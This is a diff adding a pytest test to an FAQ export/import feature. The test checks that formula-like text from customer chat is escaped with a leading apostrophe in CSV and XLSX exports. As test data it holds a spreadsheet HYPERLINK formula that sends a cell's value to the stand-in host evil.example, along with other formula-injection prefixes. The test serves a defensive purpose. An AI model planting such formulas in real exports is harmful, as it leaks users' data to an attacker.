@@ -156,6 +156,24 @@ def test_it_round_trips_export_and_import(fmt, client_as_supervisor):
     assert _contents() == before
 
 
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_formula_like_faq_text_exports_as_text_and_round_trips(fmt, client_as_supervisor):
+    # FAQ text can come from customers' chat (mined candidates): Excel must not run it.
+    formula = '=HYPERLINK("https://evil.example/?d="&D3,"요금제 변경")'
+    faq = FaqFactory(question=formula, answer="-2-3")
+    FaqAlternativeFactory(faq=faq, text="@A1")
+    before = _contents()
+
+    exported = _export(client_as_supervisor, fmt)
+    data = tablib.Dataset().load(exported if fmt == "xlsx" else exported.decode(), format=fmt)
+    response = _import(client_as_supervisor, SimpleUploadedFile(f"e.{fmt}", exported), fmt)
+
+    assert data["question"] == ["'" + formula]
+    assert data["answer"] == ["'-2-3"]
+    assert response.status_code == 200
+    assert _contents() == before
+
+
 def test_it_matches_rows_without_ids_by_question(categories, client_as_supervisor):
     _import(client_as_supervisor, _file(_rows(10), "csv"), "csv")
     data = _rows(10)
